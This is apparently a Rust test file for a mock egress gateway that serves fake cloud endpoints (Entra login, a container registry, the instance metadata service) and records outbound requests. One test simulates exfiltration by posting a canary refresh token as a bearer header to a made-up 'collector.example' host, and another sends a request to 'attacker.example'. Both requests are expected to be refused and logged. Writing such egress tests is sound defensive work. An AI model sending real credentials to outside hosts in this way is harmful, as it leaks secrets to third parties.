//! The front door's listeners without the proxy: a site's own direct listener (HTTP/2, the same
//! record), shared listeners routing every site by SNI and `Host`, and listeners adopted through a
//! `Gateway` (a sandbox's network namespace), labelled and recorded.

mod support;

use std::time::Duration;

use mock_kit::egress::{Outcome, Refusal};
use mock_kit::site::Via;
use serde_json::Value;
use support::*;

#[tokio::test]
async fn direct_listeners_serve_h2_with_the_same_record() {
    let w = world().await;
    let endpoint = w.door.endpoint("test-entra").unwrap();
    assert!(endpoint.direct_url.starts_with("https://127.0.0.1:"));
    mock_kit::install_crypto_provider();
    let http = reqwest::Client::builder()
        .no_proxy()
        .tls_certs_only([
            reqwest::Certificate::from_pem(w.door.ca().cert_pem().as_bytes()).unwrap(),
        ])
        .build()
        .unwrap();
    let resp = http
        .get(format!("{}/common/discovery/instance", endpoint.direct_url))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.version(), reqwest::Version::HTTP_2);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["site"], "test-entra");
    // The certificate also names the site's real host, for clients that set a TLS server name.
    let by_name = reqwest::Client::builder()
        .no_proxy()
        .resolve("login.microsoftonline.com", endpoint.direct_addr)
        .tls_certs_only([
            reqwest::Certificate::from_pem(w.door.ca().cert_pem().as_bytes()).unwrap(),
        ])
        .build()
        .unwrap();
    let url = format!(
        "https://login.microsoftonline.com:{}/x",
        endpoint.direct_addr.port()
    );
    assert_eq!(by_name.get(url).send().await.unwrap().status(), 200);

    let imds = w.door.endpoint("test-imds").unwrap();
    assert!(imds.direct_url.starts_with("http://127.0.0.1:"));
    let body: Value = http
        .get(format!("{}/metadata/instance", imds.direct_url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["site"], "test-imds");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3);
    assert!(record.iter().all(|r| r.via == Via::Direct));
    assert_eq!(record[0].host, "127.0.0.1");
}

#[tokio::test]
async fn shared_listeners_route_every_site_by_sni_and_host() {
    let w = world().await;
    let tls = w
        .door
        .listen_tls("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let plain = w
        .door
        .listen_http("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    mock_kit::install_crypto_provider();
    let http = reqwest::Client::builder()
        .no_proxy()
        .resolve("login.microsoftonline.com", tls)
        .resolve("myreg.azurecr.io", tls)
        .resolve("attacker.example", tls)
        .tls_certs_only([
            reqwest::Certificate::from_pem(w.door.ca().cert_pem().as_bytes()).unwrap(),
        ])
        .build()
        .unwrap();
    let get = |url: String| {
        let http = http.clone();
        async move { http.get(url).send().await.unwrap() }
    };
    let entra: Value = get(format!(
        "https://login.microsoftonline.com:{}/x",
        tls.port()
    ))
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(entra["site"], "test-entra");
    let acr: Value = get(format!("https://myreg.azurecr.io:{}/v2/", tls.port()))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(acr["site"], "test-acr");
    assert_eq!(acr["host"], "myreg.azurecr.io");
    let refused = get(format!("https://attacker.example:{}/", tls.port())).await;
    assert_eq!(refused.status(), 502);
    // IP literals are never resolved, so name the host in the header (as a netns client would
    // reach 169.254.169.254:80 on this listener).
    let imds: Value = http
        .get(format!(
            "http://127.0.0.1:{}/metadata/instance",
            plain.port()
        ))
        .header("host", "169.254.169.254")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(imds["site"], "test-imds");
    // Plain HTTP to an https-only site on the shared plain listener is a refused downgrade.
    let downgrade = http
        .get(format!("http://127.0.0.1:{}/", plain.port()))
        .header("host", "login.microsoftonline.com")
        .send()
        .await
        .unwrap();
    assert_eq!(downgrade.status(), 403);
    w.door.shutdown().await;
    assert!(tokio::net::TcpStream::connect(tls).await.is_err());
    assert!(tokio::net::TcpStream::connect(plain).await.is_err());
}

#[tokio::test]
async fn adopted_listeners_serve_direct_connections_by_sni_and_host_labelled_and_recorded() {
    use mock_kit::Adopted;
    let w = world().await;
    let (token, fingerprint) = w
        .secrets
        .register(
            mock_kit::SecretKind::AcrRefreshToken,
            "contosoacr.azurecr.io",
            "canary-refresh-token-0123456789",
        )
        .unwrap();
    let tls = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let plain = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let (tls_addr, plain_addr) = (tls.local_addr().unwrap(), plain.local_addr().unwrap());
    let gateway = w.door.gateway();
    assert_the_gateway_offers_the_proxy_and_the_sites(&w, &gateway);
    let adoption = gateway
        .adopt(
            vec![(tls, Adopted::AnyTls), (plain, Adopted::AnyPlain)],
            Some("iut/shard-a".into()),
        )
        .unwrap();

    // TLS to a fake's name reaches the fake, by SNI, with a certificate for that name.
    let http = straight_to(
        &w,
        tls_addr,
        &["contosoacr.azurecr.io", "collector.example"],
    );
    let resp = http
        .get("https://contosoacr.azurecr.io/v2/")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["site"], "test-acr");
    assert_eq!(body["label"], "iut/shard-a");

    // TLS to a made-up host with a secret in a header: refused, recorded with the secret.
    let resp = http
        .post("https://collector.example/v1/events")
        .bearer_auth(token.expose())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);
    assert_eq!(resp.headers()["x-credsim-refused"], "unknown-host");

    // Plain HTTP to IMDS's address reaches IMDS by `Host`.
    let plain_http = straight_to(&w, plain_addr, &[]);
    let resp = plain_http
        .get(format!("http://{plain_addr}/metadata/instance"))
        .header("host", "169.254.169.254")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.json::<Value>().await.unwrap()["site"], "test-imds");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3, "{record:#?}");
    assert!(record.iter().all(|r| r.via == Via::Intercepted));
    assert!(
        record
            .iter()
            .all(|r| r.client.label.as_deref() == Some("iut/shard-a"))
    );
    assert_eq!(record[1].host, "collector.example");
    assert_eq!(record[1].port, tls_addr.port());
    assert_eq!(
        record[1].outcome,
        Outcome::Refused {
            reason: Refusal::UnknownHost
        }
    );
    assert!(record[1].carried(&fingerprint));
    assert_eq!(record[2].host, "169.254.169.254");

    // Dropping the adoption stops its listeners.
    drop(adoption);
    let refused = refuses_connections_within_a_second(tls_addr).await;
    assert!(refused, "the adopted listener still accepts");
}

/// The gateway's loopback addresses start with the proxy and include the sites' listeners.
fn assert_the_gateway_offers_the_proxy_and_the_sites(w: &World, gateway: &mock_kit::Gateway) {
    use mock_kit::Adopted;
    assert_eq!(gateway.loopback()[0], (w.door.proxy_addr(), Adopted::Proxy));
    assert!(
        gateway
            .loopback()
            .iter()
            .any(|(_, a)| *a == Adopted::Site("test-acr".into())),
        "{:?}",
        gateway.loopback()
    );
}

/// Whether connecting to `addr` fails within about a second (a stopped listener's port closes
/// asynchronously).
async fn refuses_connections_within_a_second(addr: std::net::SocketAddr) -> bool {
    for _ in 0..50 {
        if tokio::net::TcpStream::connect(addr).await.is_err() {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    false
}
